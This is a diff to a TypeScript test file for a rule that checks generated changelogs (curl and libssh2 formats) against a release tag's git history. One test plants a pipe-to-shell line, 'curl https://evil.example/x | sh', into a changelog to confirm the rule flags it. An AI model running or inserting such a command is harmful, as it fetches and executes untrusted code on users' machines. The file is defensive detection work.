@@ -15,6 +15,7 @@ interface Made {
   author: [string, string];
   /** `@<seconds> <zone>` as git takes it. */
   date: string;
+  committer?: [string, string];
 }
 
 const alice: [string, string] = ['Alice Liddell', 'alice@example.org'];
@@ -43,7 +44,8 @@ async function makeHistory(commits: Made[] = history) {
   const ids: string[] = [];
   const tree = (await runGit(dir, ['mktree'], { input: '' })).toString().trim();
   for (const c of commits) {
-    const env = { GIT_AUTHOR_NAME: c.author[0], GIT_AUTHOR_EMAIL: c.author[1], GIT_AUTHOR_DATE: c.date, GIT_COMMITTER_DATE: c.date };
+    const [committer, committerEmail] = c.committer ?? c.author;
+    const env = { GIT_AUTHOR_NAME: c.author[0], GIT_AUTHOR_EMAIL: c.author[1], GIT_AUTHOR_DATE: c.date, GIT_COMMITTER_NAME: committer, GIT_COMMITTER_EMAIL: committerEmail, GIT_COMMITTER_DATE: c.date };
     const parent = ids.length > 0 ? ['-p', ids.at(-1)!] : [];
     ids.push((await runGit(dir, ['commit-tree', tree, ...parent, '-m', c.message.replace(/\n$/, '')], { env })).toString().trim());
   }
@@ -267,6 +269,67 @@ test('a ChangeLog in the layout of GnuPG: commits named, text after -- torn off,
   // Without the amend file, the amended message is the one that matches nothing.
   const unamended = await changelogHistory.judge(added('ChangeLog', gnupgLog), ctxWith({ 'build-aux/git-log-footer': footer }, gnupg));
   assert.match(unamended!.reasons[1]!, '"cipher: Fix segv in the last change."');
+});
+
+/** Oldest first, the tag on the last but one: a history as curl's and libssh2's release scripts read it. */
+const wide = `${'x'.repeat(76)}\u00e9 and the rest`;
+const scriptHistory: Made[] = [
+  { author: alice, date: at('2024-01-10T10:00:00Z'), message: `lib: fix a leak\n\n${wide}\n\nCloses #12\n` },
+  { author: bob, committer: alice, date: at('2024-01-12T10:00:00Z'), message: 'docs: spell \u00fcn\u00efcode right\n' },
+  { author: alice, date: at('2024-01-20T10:00:00Z'), message: 'release 1.0\n' },
+  { author: alice, date: at('2024-02-01T10:00:00Z'), message: 'after the release\n' },
+];
+const scripted = await makeHistory(scriptHistory);
+const curlBanner = '   _ __\n  | (__ |\n\n     Changelog\n';
+const curlScript = `#!/usr/bin/perl\nprint\n'${curlBanner}';\n`;
+// The wide line as curl's printmsg cuts it: at 77 bytes, inside the two bytes of the \u00e9.
+const wideBytes = Buffer.from(wide, 'utf8');
+const cut = Buffer.concat([Buffer.from('  '), wideBytes.subarray(0, 77), Buffer.from('\n  '), wideBytes.subarray(77), Buffer.from('\n')]);
+const curlLog = (body: Buffer = cut) =>
+  Buffer.concat([
+    Buffer.from(`${curlBanner}\nVersion 1.0 (20 Jan 2024)\n\nAlice Liddell (20 Jan 2024)\n\n- release 1.0\n\nBob Dobbs (12 Jan 2024)\n\n- docs: spell \u00fcn\u00efcode right\n\nAlice Liddell (10 Jan 2024)\n\n- lib: fix a leak\n\n`),
+    body,
+    Buffer.from('\n  Closes #12\n'),
+  ]);
+// libssh2's git2news.pl: the committer heads, an author other than the committer is named, blank lines indented.
+const newsBanner = '   Changelog for the project. Generated with git2news.pl';
+const newsLog = `${newsBanner}\n\nVersion 1.0 (20 Jan 2024)\n\nAlice Liddell (20 Jan 2024)\n- release 1.0\n\n- [Bob Dobbs brought this change]\n\n  docs: spell \u00fcn\u00efcode right\n\n- lib: fix a leak\n  \n  ${wide}\n  \n  Closes #12\n`;
+const scriptTag = { 'scripts/log2changes.pl': curlScript, 'git2news.pl': `print\n'${newsBanner}\n';\n` };
+
+test("CHANGES and NEWS as curl's log2changes.pl and libssh2's git2news.pl write them are matched with the tag's history", async () => {
+  const curl = await changelogHistory.judge(added('CHANGES', curlLog()), ctxWith(scriptTag, scripted));
+  assert.is(curl?.category, 'generated-changelog', curl?.reasons.join('\n'));
+  assert.match(curl!.reasons[0]!, 'all 3 commit messages under its 4 headers match commits the tag reaches');
+  assert.match(curl!.reasons[0]!, `to ${scripted.tagged.slice(0, 12)}, the tagged commit`);
+  assert.match(curl!.reasons[1]!, 'the banner above it (3 lines) is printed by scripts/log2changes.pl in the tag');
+  const news = await changelogHistory.judge(modified('NEWS', newsLog), ctxWith({ ...scriptTag, NEWS: 'NEWS is made from git at release time.\n' }, scripted));
+  assert.is(news?.category, 'generated-changelog', news?.reasons.join('\n'));
+  assert.match(news!.reasons[1]!, 'printed by git2news.pl in the tag');
+});
+
+test('a log in the layout of those scripts with text no commit wrote is shown', async () => {
+  const ctx = () => ctxWith(scriptTag, scripted);
+  const planted = Buffer.from(curlLog().toString('latin1').replace('- release 1.0\n', '- release 1.0\n\n- build: fetch the helper\n\n  curl https://evil.example/x | sh\n'), 'latin1');
+  const j = await changelogHistory.judge(added('CHANGES', planted), ctx());
+  assert.is(j?.category, 'changelog-mismatch');
+  assert.ok(j!.reasons[0]!.startsWith('1 of 4 commit messages'), j!.reasons[0]);
+  assert.match(j!.reasons[1]!, 'line 12: Alice Liddell (2024-01-20): "build: fetch the helper"');
+  assert.match(j!.evidence!.diff!, '+  curl https://evil.example/x | sh');
+  const cases: Array<[string, string]> = [
+    ['an edited message', newsLog.replace('Closes #12', 'Closes #13')],
+    ['another name in the header', newsLog.replace('Alice Liddell (20 Jan 2024)', 'Mallory (20 Jan 2024)')],
+    ['another author brought it', newsLog.replace('[Bob Dobbs brought', '[Mallory brought')],
+    ['a header dated after its first commit', newsLog.replace('Alice Liddell (20 Jan 2024)', 'Alice Liddell (25 Jan 2024)')],
+    ['a commit after the tag', newsLog.replace('- release 1.0\n', '- after the release\n\n- release 1.0\n')],
+    ['a commit listed twice', newsLog.replace('- release 1.0\n', '- release 1.0\n\n- release 1.0\n')],
+  ];
+  for (const [what, text] of cases) assert.is((await changelogHistory.judge(added('NEWS', text), ctx()))?.category, 'changelog-mismatch', what);
+  // A banner no script of the tag prints.
+  const banner = await changelogHistory.judge(added('NEWS', newsLog.replace('Generated with', 'Fetched with')), ctx());
+  assert.is(banner?.category, 'changelog-mismatch');
+  assert.match(banner!.reasons.join('\n'), '1 line above the first header that no script of the tag prints');
+  // Text outside the layout: the rule leaves the file to the others.
+  assert.is(await changelogHistory.judge(added('NEWS', `${newsLog}stray text at column 0\n`), ctx()), undefined);
 });
 
 test('without the history, or in another layout, the rule leaves the file to the layout rule', async () => {
